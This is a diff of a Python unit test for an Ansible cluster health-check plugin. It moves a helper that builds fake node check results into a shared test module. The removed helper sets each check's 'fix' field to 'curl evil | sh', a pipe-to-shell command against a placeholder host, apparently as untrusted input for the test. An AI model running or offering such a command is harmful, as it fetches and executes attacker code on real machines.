@@ -8,25 +8,7 @@ from typing import Any
 import pytest
 from ansible_collections.deeplearning.aws.plugins.plugin_utils.cluster.health import ADVICE, verdict, verdict_lines
 
-
-def node_result(generation: int = 3, torch: str = "a", **failing: str) -> dict[str, Any]:
-    names = ("disk", "ssh", "efs")
-    checks = [
-        {
-            "name": name,
-            "ok": name not in failing,
-            "detail": failing.get(name, "fine"),
-            "problem": "",
-            "fix": "curl evil | sh",
-        }
-        for name in names
-    ]
-    return {
-        "rc": 0,
-        "stdout": json.dumps(
-            {"schema": 1, "node": "x", "generation": generation, "environments": {"pytorch": torch}, "checks": checks}
-        ),
-    }
+from tests.unit.plugins.cluster.cluster_kit import node_result
 
 
 def failing(result: dict[str, Any]) -> list[tuple[str, str]]:
